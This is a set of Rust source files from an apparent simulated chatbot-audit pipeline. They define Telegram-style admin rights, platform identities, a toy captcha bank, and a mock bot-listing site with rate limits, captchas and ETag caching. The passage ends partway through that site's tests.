    /// Look up a single right by canonical name.
    pub fn by_name(name: &str) -> Option<TgRights> {
        Self::NAMES
            .iter()
            .find(|(_, n, _)| *n == name)
            .map(|(bit, _, _)| TgRights(*bit))
    }

    /// Encode for a deep-link query: `+`-joined slugs in bit order.
    pub fn to_deeplink_field(self) -> String {
        Self::NAMES
            .iter()
            .filter(|(bit, _, _)| self.0 & bit != 0)
            .map(|(_, _, wire)| *wire)
            .collect::<Vec<_>>()
            .join("+")
    }

    /// Decode a deep-link query field; `None` when any slug is unknown.
    pub fn from_deeplink_field(s: &str) -> Option<TgRights> {
        let mut rights = TgRights::NONE;
        for part in s.split(['+', ' ']).filter(|p| !p.is_empty()) {
            let (bit, _, _) = Self::NAMES.iter().find(|(_, _, wire)| *wire == part)?;
            rights |= TgRights(*bit);
        }
        Some(rights)
    }
}

impl std::ops::BitOr for TgRights {
    type Output = TgRights;
    fn bitor(self, rhs: TgRights) -> TgRights {
        TgRights(self.0 | rhs.0)
    }
}

impl std::ops::BitOrAssign for TgRights {
    fn bitor_assign(&mut self, rhs: TgRights) {
        self.0 |= rhs.0;
    }
}

impl std::ops::BitAnd for TgRights {
    type Output = TgRights;
    fn bitand(self, rhs: TgRights) -> TgRights {
        TgRights(self.0 & rhs.0)
    }
}

impl fmt::Display for TgRights {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_empty() {
            return f.write_str("(none)");
        }
        write!(f, "{}", self.names().join(", "))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eight_known_rights() {
        assert_eq!(TgRights::ALL_KNOWN.count(), 8);
        assert_eq!(TgRights::NAMES.len(), 8);
    }

    #[test]
    fn names_round_trip() {
        for (bit, name, _) in TgRights::NAMES {
            assert_eq!(TgRights::by_name(name).unwrap().0, *bit, "{name}");
        }
        assert!(TgRights::by_name("administrator").is_none());
    }

    #[test]
    fn deeplink_field_roundtrip() {
        let r = TgRights::DELETE_MESSAGES | TgRights::BAN_USERS | TgRights::PIN_MESSAGES;
        let field = r.to_deeplink_field();
        assert_eq!(field, "delete_messages+ban_users+pin_messages");
        assert_eq!(TgRights::from_deeplink_field(&field), Some(r));
        assert_eq!(TgRights::from_deeplink_field(""), Some(TgRights::NONE));
        assert_eq!(TgRights::from_deeplink_field("fly_the_chat"), None);
    }

    #[test]
    fn set_operations() {
        let a = TgRights::DELETE_MESSAGES | TgRights::INVITE_USERS;
        assert!(a.contains(TgRights::DELETE_MESSAGES));
        assert!(!a.contains(TgRights::BAN_USERS));
        assert!(a.intersects(TgRights::INVITE_USERS | TgRights::PROMOTE_MEMBERS));
        assert!(TgRights::NONE.is_empty());
    }

    #[test]
    fn display_lists_names() {
        let s = (TgRights::CHANGE_INFO | TgRights::BAN_USERS).to_string();
        assert!(s.contains("change chat info"));
        assert!(s.contains("ban users"));
        assert_eq!(TgRights::NONE.to_string(), "(none)");
    }
}
