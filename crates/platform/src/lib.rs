//! Messaging-platform abstraction.
//!
//! The source paper measures chatbot risks *across* messaging services;
//! this crate captures what the audit pipeline actually assumes about a
//! platform so a second substrate is a new implementation, not a fork:
//!
//! * [`PlatformKind`] — which ecosystem a world/report belongs to, plus the
//!   per-platform listing host the crawler targets.
//! * [`TgRights`] — the coarse Telegram-style permission model (a small
//!   admin-rights set plus a group-privacy-mode flag; no per-channel
//!   overwrites), with stable wire names feeding the same traceability
//!   classifier Discord's 41 permission names go through.
//! * [`ChatSubstrate`] — the honeypot's view of a platform: provision
//!   personas, create an isolated room, install a bot from its scraped
//!   invite string, connect and drive its backend, post feed messages and
//!   canary tokens, read the transcript back.
//!
//! Everything here is deterministic-by-construction: no clocks, no RNG —
//! the substrate implementations own those.

pub mod kind;
pub mod rights;
pub mod substrate;

pub use kind::{PlatformKind, TELEGRAM_DEEPLINK_HOST, TELEGRAM_LIST_HOST};
pub use rights::{TgRights, PRIVACY_OFF_NAME};
pub use substrate::{
    ActorId, ChannelId, ChatAttachment, ChatMessage, ChatSubstrate, PersonaRoster, RoomId,
    SubstrateError, SubstrateResult,
};
