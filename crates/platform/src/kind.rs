//! Platform identity: which messaging ecosystem a world, report, or fleet
//! tenant belongs to.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Host the Telegram-style bot directory is mounted on (the `top.gg.sim`
/// analogue for the second substrate).
pub const TELEGRAM_LIST_HOST: &str = "tdirectory.sim";

/// Host Telegram-style install deep links point at (`t.me` analogue). The
/// substrate mounts an echo gate here so the crawler can validate invites
/// without installing anything.
pub const TELEGRAM_DEEPLINK_HOST: &str = "t.sim";

/// The messaging ecosystems the pipeline can audit.
#[derive(
    Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize,
)]
pub enum PlatformKind {
    /// The Discord-like substrate (`discord-sim`): fine-grained 41-bit
    /// permission model, OAuth installs, webhooks, per-channel overwrites.
    #[default]
    Discord,
    /// The Telegram-like substrate (`telegram-sim`): coarse admin-rights
    /// set, group privacy mode, deep-link installs, no webhooks.
    Telegram,
}

impl PlatformKind {
    /// Stable lowercase tag used in reports, metric paths, and fingerprints.
    pub fn as_str(self) -> &'static str {
        match self {
            PlatformKind::Discord => "discord",
            PlatformKind::Telegram => "telegram",
        }
    }

    /// Parse a platform tag; `None` for unknown names.
    pub fn parse(s: &str) -> Option<PlatformKind> {
        match s {
            "discord" => Some(PlatformKind::Discord),
            "telegram" => Some(PlatformKind::Telegram),
            _ => None,
        }
    }

    /// All supported kinds, in canonical order.
    pub const ALL: [PlatformKind; 2] = [PlatformKind::Discord, PlatformKind::Telegram];
}

impl fmt::Display for PlatformKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tags_roundtrip() {
        for kind in PlatformKind::ALL {
            assert_eq!(PlatformKind::parse(kind.as_str()), Some(kind));
        }
        assert_eq!(PlatformKind::parse("slack"), None);
        assert_eq!(PlatformKind::parse("Discord"), None, "tags are lowercase");
    }

    #[test]
    fn default_is_discord() {
        assert_eq!(PlatformKind::default(), PlatformKind::Discord);
    }

    #[test]
    fn serde_roundtrip() {
        let json = serde_json::to_string(&PlatformKind::Telegram).unwrap();
        let back: PlatformKind = serde_json::from_str(&json).unwrap();
        assert_eq!(back, PlatformKind::Telegram);
    }
}
