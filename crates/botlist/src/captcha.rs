//! Captcha challenges.
//!
//! The listing site throws interstitial captchas at busy clients; the
//! install flow requires one per bot install (§4.2). Challenges are simple
//! arithmetic — what matters is the *protocol*: fetch challenge, obtain a
//! solution out-of-band (the 2Captcha-like solver lives in `crawler`),
//! redeem it for a pass token, attach the token to subsequent requests.

use parking_lot::Mutex;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::Arc;

/// A challenge as presented to the client.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Challenge {
    /// Opaque challenge ID.
    pub id: String,
    /// Human-solvable question, e.g. `17 + 25`.
    pub question: String,
}

#[derive(Default)]
struct BankInner {
    /// Outstanding challenges: id → expected answer.
    open: BTreeMap<String, i64>,
    /// Redeemed pass tokens.
    passes: BTreeMap<String, bool>,
    counter: u64,
}

/// Issues and verifies challenges; shared between site endpoints.
#[derive(Clone, Default)]
pub struct CaptchaBank {
    inner: Arc<Mutex<BankInner>>,
}

impl CaptchaBank {
    /// An empty bank.
    pub fn new() -> CaptchaBank {
        CaptchaBank::default()
    }

    /// Issue a fresh challenge.
    pub fn issue<R: Rng + ?Sized>(&self, rng: &mut R) -> Challenge {
        let mut inner = self.inner.lock();
        inner.counter += 1;
        let a: i64 = rng.gen_range(10i64..100);
        let b: i64 = rng.gen_range(10i64..100);
        let id = format!("ch-{}", inner.counter);
        inner.open.insert(id.clone(), a + b);
        Challenge {
            id,
            question: format!("{a} + {b}"),
        }
    }

    /// Redeem a solved challenge for a pass token. Wrong answers consume
    /// the challenge (a fresh one must be requested).
    pub fn redeem(&self, challenge_id: &str, answer: i64) -> Option<String> {
        let mut inner = self.inner.lock();
        let expected = inner.open.remove(challenge_id)?;
        if expected == answer {
            let token = format!("pass-{challenge_id}");
            inner.passes.insert(token.clone(), true);
            Some(token)
        } else {
            None
        }
    }

    /// Is this pass token valid? Tokens are single-session, not consumed.
    pub fn is_valid_pass(&self, token: &str) -> bool {
        self.inner.lock().passes.contains_key(token)
    }

    /// Solve a question string (the "human" — or 2Captcha worker — side).
    pub fn solve_question(question: &str) -> Option<i64> {
        let (a, b) = question.split_once('+')?;
        Some(a.trim().parse::<i64>().ok()? + b.trim().parse::<i64>().ok()?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn issue_solve_redeem_cycle() {
        let bank = CaptchaBank::new();
        let mut rng = StdRng::seed_from_u64(1);
        let ch = bank.issue(&mut rng);
        let answer = CaptchaBank::solve_question(&ch.question).unwrap();
        let token = bank.redeem(&ch.id, answer).unwrap();
        assert!(bank.is_valid_pass(&token));
        assert!(!bank.is_valid_pass("pass-forged"));
    }

    #[test]
    fn wrong_answer_consumes_challenge() {
        let bank = CaptchaBank::new();
        let mut rng = StdRng::seed_from_u64(2);
        let ch = bank.issue(&mut rng);
        assert!(bank.redeem(&ch.id, -1).is_none());
        // Challenge is gone; even the right answer fails now.
        let answer = CaptchaBank::solve_question(&ch.question).unwrap();
        assert!(bank.redeem(&ch.id, answer).is_none());
    }

    #[test]
    fn unknown_challenge_rejected() {
        let bank = CaptchaBank::new();
        assert!(bank.redeem("ch-999", 42).is_none());
    }

    #[test]
    fn solver_handles_malformed_questions() {
        assert_eq!(CaptchaBank::solve_question("17 + 25"), Some(42));
        assert_eq!(CaptchaBank::solve_question("what"), None);
        assert_eq!(CaptchaBank::solve_question("a + b"), None);
    }
}
