//! The listing site service.
//!
//! Serves the paginated "top chatbot" list and per-bot detail pages over
//! the `netsim` fabric, defended by a rate limiter, captcha interstitials,
//! and an email-verification wall — the §3 anti-scraping gauntlet.

use crate::captcha::CaptchaBank;
use crate::listing::BotListing;
use htmlsim::build::{el, ElementBuilder};
use htmlsim::render::render_document;
use htmlsim::Document;
use netsim::clock::SimInstant;
use netsim::http::{Method, Request, Response, Status};
use netsim::ratelimit::TokenBucket;
use netsim::{Network, Service, ServiceCtx};
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::Arc;

/// Canonical host of the listing site.
pub const LIST_HOST: &str = "top.gg.sim";

/// Site behaviour knobs.
#[derive(Debug, Clone)]
pub struct SiteConfig {
    /// Bots per list page.
    pub page_size: usize,
    /// Page views granted between captcha interstitials (None = no captchas).
    pub captcha_every: Option<u64>,
    /// Per-requester rate limit: (burst, sustained req/s). None = unlimited.
    pub rate_limit: Option<(u32, f64)>,
    /// List pages beyond this index require email verification.
    pub email_wall_after_page: Option<usize>,
    /// Fault injection: the detail route answers 304 to *any*
    /// `if-none-match`, even when the content drifted underneath — a
    /// misbehaving origin whose validators cannot be trusted.
    pub stale_validators: bool,
}

impl Default for SiteConfig {
    fn default() -> Self {
        SiteConfig {
            page_size: 25,
            captcha_every: Some(40),
            rate_limit: Some((10, 5.0)),
            email_wall_after_page: Some(200),
            stale_validators: false,
        }
    }
}

impl SiteConfig {
    /// A defenseless configuration (unit tests, ablations).
    pub fn open() -> SiteConfig {
        SiteConfig {
            page_size: 25,
            captcha_every: None,
            rate_limit: None,
            email_wall_after_page: None,
            stale_validators: false,
        }
    }
}

/// FNV-1a over the content fields that feed a render, with a separator
/// between parts. Computed *before* rendering, so a validator match skips
/// the render (the expensive half of serving a page) entirely.
pub(crate) fn content_etag(parts: &[&[u8]]) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for part in parts {
        for &b in *part {
            h ^= b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        h ^= 0xff;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    format!("v1-{h:016x}")
}

struct ClientState {
    bucket: Option<TokenBucket>,
    credit: u64,
    email_verified: bool,
}

struct SiteInner {
    listings: Vec<BotListing>,
    by_id: BTreeMap<u64, usize>,
    config: SiteConfig,
    captcha: CaptchaBank,
    clients: BTreeMap<String, ClientState>,
    /// Consumed pass tokens (single-use).
    used_passes: BTreeMap<String, bool>,
    /// The epoch this mounted world serves (0 = frozen snapshot).
    change_epoch: u32,
    /// Crawl-visible change ledger: epoch step → listing ids whose crawl
    /// bytes changed in that step. Feeds the `/changed` endpoint.
    change_log: BTreeMap<u32, Vec<u64>>,
}

/// The listing site. Clone-and-mount.
#[derive(Clone)]
pub struct BotListSite {
    inner: Arc<Mutex<SiteInner>>,
}

impl BotListSite {
    /// Build the site over a set of listings (sorted by votes, descending —
    /// the "top chatbot" order).
    pub fn new(mut listings: Vec<BotListing>, config: SiteConfig) -> BotListSite {
        listings.sort_by(|a, b| b.vote_count.cmp(&a.vote_count).then(a.id.cmp(&b.id)));
        let by_id = listings
            .iter()
            .enumerate()
            .map(|(i, l)| (l.id, i))
            .collect();
        BotListSite {
            inner: Arc::new(Mutex::new(SiteInner {
                listings,
                by_id,
                config,
                captcha: CaptchaBank::new(),
                clients: BTreeMap::new(),
                used_passes: BTreeMap::new(),
                change_epoch: 0,
                change_log: BTreeMap::new(),
            })),
        }
    }

    /// Mount at [`LIST_HOST`].
    pub fn mount(&self, net: &Network) {
        self.mount_at(net, LIST_HOST);
    }

    /// Mount at an arbitrary host — each platform's directory lives on its
    /// own domain (`top.gg.sim` for Discord, `tdirectory.sim` for the
    /// Telegram substrate), all running this same site machinery.
    pub fn mount_at(&self, net: &Network, host: &str) {
        net.mount(host, self.clone());
    }

    /// Total number of list pages.
    pub fn total_pages(&self) -> usize {
        let inner = self.inner.lock();
        inner.listings.len().div_ceil(inner.config.page_size).max(1)
    }

    /// Number of listings.
    pub fn listing_count(&self) -> usize {
        self.inner.lock().listings.len()
    }

    /// Install the crawl-visible change ledger served by `/changed`:
    /// `log[e]` holds the listing ids whose crawl bytes changed in epoch
    /// step `e`, and `epoch` is the epoch this mounted world serves. A
    /// site without a ledger reports every epoch as unchanged — exactly
    /// right for the frozen epoch-0 world.
    pub fn set_change_log(&self, epoch: u32, log: BTreeMap<u32, Vec<u64>>) {
        let mut inner = self.inner.lock();
        inner.change_epoch = epoch;
        inner.change_log = log;
    }

    fn list_etag(inner: &SiteInner, page: usize) -> String {
        let start = page.saturating_mul(inner.config.page_size);
        let total_pages = inner.listings.len().div_ceil(inner.config.page_size).max(1);
        let mut parts: Vec<Vec<u8>> = vec![
            page.to_le_bytes().to_vec(),
            total_pages.to_le_bytes().to_vec(),
        ];
        for l in inner
            .listings
            .iter()
            .skip(start)
            .take(inner.config.page_size)
        {
            parts.push(l.id.to_le_bytes().to_vec());
            parts.push(l.name.clone().into_bytes());
            parts.push(l.vote_count.to_le_bytes().to_vec());
        }
        let refs: Vec<&[u8]> = parts.iter().map(|p| p.as_slice()).collect();
        content_etag(&refs)
    }

    fn detail_etag(listing: &BotListing) -> String {
        // Every listing field feeds the detail render, so the debug
        // projection (deterministic, field-complete) is the validator.
        content_etag(&[format!("{listing:?}").as_bytes()])
    }

    fn render_list_page(inner: &SiteInner, page: usize) -> String {
        let start = page.saturating_mul(inner.config.page_size);
        let slice: Vec<&BotListing> = inner
            .listings
            .iter()
            .skip(start)
            .take(inner.config.page_size)
            .collect();
        let total_pages = inner.listings.len().div_ceil(inner.config.page_size).max(1);
        // Three page-structure variants — "some of the repositories have
        // varying page structures" (§3).
        let variant = page % 3;
        let body: ElementBuilder = match variant {
            0 => el("div").id("bot-list").children(slice.iter().map(|l| {
                el("div")
                    .class("bot-card")
                    .attr("data-bot-id", &l.id.to_string())
                    .child(
                        el("a")
                            .class("bot-link")
                            .attr("href", &format!("/bot/{}", l.id))
                            .text(l.name.clone()),
                    )
                    .child(el("span").class("votes").text(l.vote_count.to_string()))
            })),
            1 => el("table")
                .id("bot-table")
                .child(el("tbody").children(slice.iter().map(|l| {
                    el("tr")
                        .class("bot-row")
                        .child(
                            el("td").child(
                                el("a")
                                    .class("details")
                                    .attr("href", &format!("/bot/{}", l.id))
                                    .text(l.name.clone()),
                            ),
                        )
                        .child(el("td").class("votes").text(l.vote_count.to_string()))
                }))),
            _ => el("ul").id("entries").children(slice.iter().map(|l| {
                el("li").class("entry").child(
                    el("a")
                        .attr("data-kind", "bot")
                        .attr("href", &format!("/bot/{}", l.id))
                        .text(l.name.clone()),
                )
            })),
        };
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(format!("Top chatbots — page {page}"))))
                .child(
                    el("body")
                        .child(el("span").id("total-pages").text(total_pages.to_string()))
                        .child(body),
                )
                .build(),
        );
        render_document(&doc)
    }

    /// The community rail every detail page drags along: reviews, a vote
    /// sparkline, and a related-bots strip. Real listing sites bury the
    /// handful of fields an auditor extracts (§3) under exactly this kind
    /// of markup, and the crawler never parses any of it — which is what
    /// a conditional fetch exploits: a 304 skips bytes the cold path must
    /// download and tokenize. Content is derived from the listing fields
    /// alone, so it drifts if and only if the listing drifts and the
    /// page's validator stays honest.
    fn render_community_rail(listing: &BotListing) -> ElementBuilder {
        const ADJ: [&str; 8] = [
            "reliable",
            "laggy",
            "helpful",
            "spammy",
            "clean",
            "clunky",
            "snappy",
            "essential",
        ];
        const VERB: [&str; 8] = [
            "moderates",
            "responds",
            "crashes",
            "integrates",
            "logs",
            "pings",
            "automates",
            "translates",
        ];
        let mut reviews = el("div").class("reviews");
        let n_reviews = 8 + (listing.id % 5) as usize;
        for i in 0..n_reviews {
            let r = netsim::splitmix(listing.id, 0x9e37 + i as u64);
            let stars = 1 + (r % 5);
            let body = format!(
                "{name} is {a0} and {verb} {a1} guilds without fuss; after {days} days \
                 running {cmd} across {guilds} servers it still feels {a2}. {tail}",
                name = listing.name,
                a0 = ADJ[(r >> 3) as usize % ADJ.len()],
                verb = VERB[(r >> 7) as usize % VERB.len()],
                a1 = ADJ[(r >> 11) as usize % ADJ.len()],
                days = 3 + (r >> 15) % 900,
                cmd = listing
                    .commands
                    .get((r >> 5) as usize % listing.commands.len().max(1))
                    .map(String::as_str)
                    .unwrap_or("!help"),
                guilds = 1 + (r >> 23) % 40,
                a2 = ADJ[(r >> 27) as usize % ADJ.len()],
                tail = if stars >= 4 {
                    "Would recommend to any server owner looking for an upgrade."
                } else {
                    "Support never answered my ticket, so weigh that before installing."
                },
            );
            reviews = reviews.child(
                el("article")
                    .class("review")
                    .attr("data-stars", &stars.to_string())
                    .child(
                        el("span")
                            .class("reviewer")
                            .text(format!("user{}", r % 100_000)),
                    )
                    .child(el("p").class("review-body").text(body)),
            );
        }
        let votes = el("ul").class("vote-history").children((0..30u64).map(|w| {
            let v = netsim::splitmix(listing.id ^ listing.vote_count, w);
            el("li")
                .attr("data-week", &w.to_string())
                .text((listing.vote_count.saturating_sub(v % 97)).to_string())
        }));
        let related = el("ul").class("related-bots").children((0..12u64).map(|k| {
            let r = netsim::splitmix(listing.id, 0xbeef + k);
            el("li").child(
                el("a")
                    .attr("href", &format!("/bot/{}", 1 + r % 4096))
                    .text(format!(
                        "{}Bot{}",
                        ADJ[(r >> 9) as usize % ADJ.len()],
                        r % 997
                    )),
            )
        }));
        el("aside")
            .class("community-rail")
            .child(reviews)
            .child(votes)
            .child(related)
    }

    fn render_detail_page(listing: &BotListing) -> String {
        // Detail pages also come in two structure variants (§3: "some of
        // the repositories have varying page structures"). Variant choice
        // is deterministic per bot so re-fetches are stable.
        if listing.id % 3 == 2 {
            return Self::render_detail_page_alt(listing);
        }
        let mut bot = el("div")
            .id("bot")
            .attr("data-bot-id", &listing.id.to_string())
            .child(el("h1").id("bot-name").text(listing.name.clone()))
            .child(
                el("a")
                    .id("invite")
                    .attr("href", &listing.invite_link)
                    .text("Invite"),
            )
            .child(
                el("span")
                    .id("guild-count")
                    .text(listing.guild_count.to_string()),
            )
            .child(
                el("span")
                    .id("vote-count")
                    .text(listing.vote_count.to_string()),
            )
            .child(el("p").id("description").text(listing.description.clone()))
            .child(
                el("ul").id("tags").children(
                    listing
                        .tags
                        .iter()
                        .map(|t| el("li").class("tag").text(t.clone())),
                ),
            )
            .child(
                el("ul").id("devs").children(
                    listing
                        .developers
                        .iter()
                        .map(|d| el("li").class("dev").text(d.clone())),
                ),
            )
            .child(
                el("ul").id("commands").children(
                    listing
                        .commands
                        .iter()
                        .map(|c| el("li").class("command").text(c.clone())),
                ),
            );
        if let Some(site) = &listing.website {
            bot = bot.child(el("a").class("website").attr("href", site).text("Website"));
        }
        if let Some(gh) = &listing.github {
            bot = bot.child(el("a").class("github").attr("href", gh).text("GitHub"));
        }
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(listing.name.clone())))
                .child(
                    el("body")
                        .child(bot)
                        .child(Self::render_community_rail(listing)),
                )
                .build(),
        );
        render_document(&doc)
    }

    /// The alternate detail layout: a profile card with data attributes and
    /// different ids/classes — a scraper keyed only to the primary layout
    /// raises `NoSuchElement` here.
    fn render_detail_page_alt(listing: &BotListing) -> String {
        let mut card = el("section")
            .class("app-profile")
            .attr("data-app-id", &listing.id.to_string())
            .attr("data-guilds", &listing.guild_count.to_string())
            .attr("data-votes", &listing.vote_count.to_string())
            .child(el("h2").class("app-title").text(listing.name.clone()))
            .child(
                el("div").class("actions").child(
                    el("a")
                        .class("install-button")
                        .attr("href", &listing.invite_link)
                        .text("Add to server"),
                ),
            )
            .child(el("div").class("about").text(listing.description.clone()))
            .child(
                el("div").class("badges").children(
                    listing
                        .tags
                        .iter()
                        .map(|t| el("span").class("badge").text(t.clone())),
                ),
            )
            .child(
                el("div").class("made-by").children(
                    listing
                        .developers
                        .iter()
                        .map(|d| el("span").class("maker").text(d.clone())),
                ),
            )
            .child(
                el("div").class("command-list").children(
                    listing
                        .commands
                        .iter()
                        .map(|c| el("code").class("cmd").text(c.clone())),
                ),
            );
        let mut links = el("nav").class("external-links");
        if let Some(site) = &listing.website {
            links = links.child(
                el("a")
                    .attr("rel", "website")
                    .attr("href", site)
                    .text("Website"),
            );
        }
        if let Some(gh) = &listing.github {
            links = links.child(
                el("a")
                    .attr("rel", "source")
                    .attr("href", gh)
                    .text("Source"),
            );
        }
        card = card.child(links);
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text(listing.name.clone())))
                .child(
                    el("body")
                        .child(card)
                        .child(Self::render_community_rail(listing)),
                )
                .build(),
        );
        render_document(&doc)
    }

    fn render_captcha_page(challenge: &crate::captcha::Challenge) -> String {
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text("Are you human?")))
                .child(
                    el("body").child(
                        el("div")
                            .id("captcha")
                            .attr("data-challenge-id", &challenge.id)
                            .child(el("p").class("question").text(challenge.question.clone())),
                    ),
                )
                .build(),
        );
        render_document(&doc)
    }
}

impl Service for BotListSite {
    fn handle(&mut self, req: &Request, ctx: &mut ServiceCtx<'_>) -> Response {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let requester = ctx.requester.to_string();
        let config = inner.config.clone();

        let state = inner
            .clients
            .entry(requester.clone())
            .or_insert_with(|| ClientState {
                bucket: config
                    .rate_limit
                    .map(|(burst, rate)| TokenBucket::new(burst, rate, SimInstant::EPOCH)),
                credit: config.captcha_every.unwrap_or(u64::MAX),
                email_verified: false,
            });

        // 1. Rate limiting.
        if let Some(bucket) = &mut state.bucket {
            if let Err(wait) = bucket.try_acquire(ctx.now) {
                return Response::rate_limited(wait.as_millis());
            }
        }

        // Captcha plumbing endpoints are always reachable.
        match (req.method, req.url.path.as_str()) {
            (Method::Get, "/captcha/challenge") => {
                let ch = inner.captcha.issue(ctx.rng);
                return Response::ok(Self::render_captcha_page(&ch))
                    .with_header("content-type", "text/html");
            }
            (Method::Post, "/captcha/redeem") => {
                let body = String::from_utf8_lossy(&req.body).to_string();
                let mut id = None;
                let mut answer = None;
                for pair in body.split('&') {
                    match pair.split_once('=') {
                        Some(("id", v)) => id = Some(v.to_string()),
                        Some(("answer", v)) => answer = v.parse::<i64>().ok(),
                        _ => {}
                    }
                }
                return match (id, answer) {
                    (Some(id), Some(answer)) => match inner.captcha.redeem(&id, answer) {
                        Some(token) => Response::ok(token),
                        None => Response::status(Status::Forbidden),
                    },
                    _ => Response::status(Status::BadRequest),
                };
            }
            (Method::Post, "/verify-email") => {
                let state = inner.clients.get_mut(&requester).expect("created above");
                state.email_verified = true;
                return Response::ok("verified");
            }
            // Changed-since ledger: a lightweight API view (no captcha
            // spend) listing the bots whose crawl bytes changed after the
            // requested epoch, one `/bot/{id}` href per line, paginated.
            (Method::Get, "/changed") => {
                let since: u32 = req
                    .url
                    .query_param("since")
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(0);
                let page: usize = req
                    .url
                    .query_param("page")
                    .and_then(|p| p.parse().ok())
                    .unwrap_or(0);
                let mut ids: Vec<u64> = inner
                    .change_log
                    .iter()
                    .filter(|(e, _)| **e > since)
                    .flat_map(|(_, ids)| ids.iter().copied())
                    .collect();
                ids.sort_unstable();
                ids.dedup();
                let page_size = config.page_size;
                let total_pages = ids.len().div_ceil(page_size).max(1);
                let body = ids
                    .iter()
                    .skip(page.saturating_mul(page_size))
                    .take(page_size)
                    .map(|id| format!("/bot/{id}"))
                    .collect::<Vec<_>>()
                    .join("\n");
                return Response::ok(body)
                    .with_header("content-type", "text/plain")
                    .with_header("x-total-pages", &total_pages.to_string())
                    .with_header("x-changed-epoch", &inner.change_epoch.to_string());
            }
            _ => {}
        }

        // 2. Captcha interstitial: consume a pass token or spend credit.
        let state = inner.clients.get_mut(&requester).expect("created above");
        if let Some(pass) = req.url.query_param("captcha_pass") {
            if inner.captcha.is_valid_pass(pass) && !inner.used_passes.contains_key(pass) {
                inner.used_passes.insert(pass.to_string(), true);
                state.credit = config.captcha_every.unwrap_or(u64::MAX);
            }
        }
        if state.credit == 0 {
            let ch = inner.captcha.issue(ctx.rng);
            return Response {
                status: Status::Forbidden,
                ..Response::ok(Self::render_captcha_page(&ch))
            };
        }
        state.credit = state.credit.saturating_sub(1);
        let email_verified = state.email_verified;

        // 3. Content routes.
        let segments = req.url.segments();
        match segments.as_slice() {
            ["list"] | [] => {
                let page: usize = req
                    .url
                    .query_param("page")
                    .and_then(|p| p.parse().ok())
                    .unwrap_or(0);
                if let Some(wall) = config.email_wall_after_page {
                    if page > wall && !email_verified {
                        return Response::status(Status::Unauthorized);
                    }
                }
                // Validator check runs after the defenses (a cached copy
                // does not excuse you from the gauntlet) but before the
                // render — the saving a 304 buys.
                let etag = Self::list_etag(inner, page);
                if req.header("if-none-match") == Some(etag.as_str()) {
                    return Response::not_modified(&etag);
                }
                Response::ok(Self::render_list_page(inner, page))
                    .with_header("content-type", "text/html")
                    .with_header("etag", &etag)
            }
            ["bot", id] => match id.parse::<u64>().ok().and_then(|id| inner.by_id.get(&id)) {
                Some(&idx) => {
                    let listing = &inner.listings[idx];
                    let etag = Self::detail_etag(listing);
                    if let Some(tag) = req.header("if-none-match") {
                        if config.stale_validators || tag == etag {
                            return Response::not_modified(&etag);
                        }
                    }
                    Response::ok(Self::render_detail_page(listing))
                        .with_header("content-type", "text/html")
                        .with_header("etag", &etag)
                }
                None => Response::status(Status::NotFound),
            },
            _ => Response::status(Status::NotFound),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use htmlsim::{parse_document, Locator};
    use netsim::client::{ClientConfig, HttpClient};
    use netsim::http::Url;
    use netsim::NetError;

    fn listings(n: u64) -> Vec<BotListing> {
        (0..n)
            .map(|i| {
                BotListing::minimal(
                    i + 1,
                    &format!("Bot{}", i + 1),
                    &format!(
                        "https://discord.sim/oauth2/authorize?client_id={}&scope=bot&permissions=8",
                        i + 1
                    ),
                    1000 - i,
                )
            })
            .collect()
    }

    fn setup(config: SiteConfig, n: u64) -> (Network, BotListSite, HttpClient) {
        let net = Network::new(5);
        let site = BotListSite::new(listings(n), config);
        site.mount(&net);
        let client = HttpClient::new(net.clone(), ClientConfig::impolite("test"));
        (net, site, client)
    }

    #[test]
    fn list_page_serves_cards_sorted_by_votes() {
        let (_net, site, mut client) = setup(SiteConfig::open(), 60);
        assert_eq!(site.total_pages(), 3);
        let resp = client
            .get(Url::https(LIST_HOST, "/list").with_query("page", "0"))
            .unwrap();
        let doc = parse_document(&resp.text()).unwrap();
        let cards = Locator::class("bot-card").find_all(&doc).unwrap();
        assert_eq!(cards.len(), 25);
        // Highest votes first → Bot1.
        let first_link = Locator::class("bot-link").find(&doc).unwrap();
        assert_eq!(first_link.text_content(), "Bot1");
        let total = Locator::id("total-pages").find(&doc).unwrap();
        assert_eq!(total.text_content(), "3");
    }

    #[test]
    fn page_structure_varies_by_page() {
        let (_net, _site, mut client) = setup(SiteConfig::open(), 100);
        let page = |client: &mut HttpClient, n: usize| {
            let resp = client
                .get(Url::https(LIST_HOST, "/list").with_query("page", &n.to_string()))
                .unwrap();
            parse_document(&resp.text()).unwrap()
        };
        let p0 = page(&mut client, 0);
        assert!(Locator::id("bot-list").find(&p0).is_ok());
        let p1 = page(&mut client, 1);
        assert!(
            Locator::id("bot-list").find(&p1).is_err(),
            "variant 1 has no #bot-list"
        );
        assert!(Locator::id("bot-table").find(&p1).is_ok());
        let p2 = page(&mut client, 2);
        assert!(Locator::id("entries").find(&p2).is_ok());
    }

    #[test]
    fn detail_page_carries_all_attributes() {
        let (_net, _site, mut client) = setup(SiteConfig::open(), 5);
        let resp = client.get(Url::https(LIST_HOST, "/bot/3")).unwrap();
        let doc = parse_document(&resp.text()).unwrap();
        assert_eq!(
            Locator::id("bot-name").find(&doc).unwrap().text_content(),
            "Bot3"
        );
